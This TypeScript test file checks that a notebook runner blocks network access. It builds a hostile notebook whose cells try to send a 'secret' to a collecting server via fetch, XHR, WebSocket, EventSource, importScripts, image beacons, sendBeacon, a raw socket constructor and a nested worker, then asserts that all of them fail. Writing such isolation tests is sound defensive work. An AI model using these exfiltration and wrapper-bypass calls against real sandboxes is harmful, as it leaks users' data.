import { describe, expect, it } from 'vitest';
import { cell, errorOf, readerUrl, waitForOutput, waitForStatus } from '../support/notebook.ts';
import { js, nestedWorkerCell, recordingServer } from './network-support.ts';
import { useApp, useServer } from '../support/use-app.ts';

const collector = useServer(recordingServer);

/**
 * A stranger's notebook that declares no network and tries every way out of the runner to a
 * server that collects what it receives. Cells 3 to 9 each try one API; cells 10 and 11 get past
 * any wrapper in the runner (the constructor behind a guarded WebSocket, a worker of its own).
 */
function hostileNotebook(target: string): string {
  const ws = target.replace('http', 'ws');
  return [
    '---\nalgobook: 1\nid: exfiltrate\ntitle: Exfiltration attempts\n---\n',
    'Each cell below sends data to another server. None of it may leave.\n',
    js(`md\`Still running: yes\``),
    js(`await fetch('${target}/fetch?secret=1')`),
    js(
      `const xhr = new XMLHttpRequest();\nxhr.open('POST', '${target}/xhr');\nxhr.send('secret');`,
    ),
    js(`new WebSocket('${ws}/ws')`),
    js(`new EventSource('${target}/sse')`),
    js(`importScripts('${target}/script.js')`),
    js(`new Image().src = '${target}/image.png?secret=1'`),
    js(`navigator.sendBeacon('${target}/beacon', 'secret')`),
    js(`
const raw = await new Promise((resolve) => {
  const socket = new WebSocket.prototype.constructor('${ws}/ws-raw');
  socket.onopen = () => resolve('open');
  socket.onerror = () => resolve('error');
});
display(md\`Raw socket: \${raw}\`);`),
    nestedWorkerCell(target),
  ].join('\n');
}

const BLOCKED = (target: string) =>
  new RegExp(
    `^NetworkBlockedError.*This notebook cannot contact ${target.replace(/[.:/]/g, '\\$&')}: cells have no network access.*Data comes through dataset\\(\\)`,
  );

const app = useApp({
  notebooks: () => ({ 'exfiltrate.algo.md': hostileNotebook(collector.origin) }),
});
const { fixtures: notebooks } = app;

describe('a notebook without `network:`', () => {
  it('reaches no server: every way out fails, and says that data comes through dataset()', async () => {
    const page = await app.newPage();
    try {
      await page.goto(readerUrl(app.server.url, `${notebooks.url}exfiltrate.algo.md`));
      await waitForOutput(cell(page, 2), 'Still running:', /^Still running: yes$/);

      // fetch, XHR, WebSocket, EventSource, importScripts, sendBeacon: each names the address.
      for (const n of [3, 4, 5, 6, 7, 9]) {
        await waitForStatus(cell(page, n), /^error$/);
        const shown = (await errorOf(cell(page, n)).textContent())?.trim() ?? '';
        expect(shown, `cell ${n}`).toMatch(BLOCKED(collector.origin));
      }
      // new Image(): no address to name yet, the same explanation.
      await waitForStatus(cell(page, 8), /^error$/);
      expect((await errorOf(cell(page, 8)).textContent())?.trim()).toMatch(
        /^NetworkBlockedError.*cannot contact other sites.*dataset\(\)/,
      );

      // Past the wrappers, the policy itself refuses.
      await waitForOutput(cell(page, 10), 'Raw socket:', /^Raw socket: error$/);
      await waitForOutput(
        cell(page, 11),
        'Nested worker:',
        /^Nested worker: fetch TypeError, xhr NetworkError, ws error, sse error$/,
      );

      expect(collector.received).toEqual([]);
      // Nothing on the page claims network access.
      expect(await page.getByRole('note', { name: 'Network access' }).count()).toBe(0);
    } finally {
      await page.context().close();
    }
  });
});
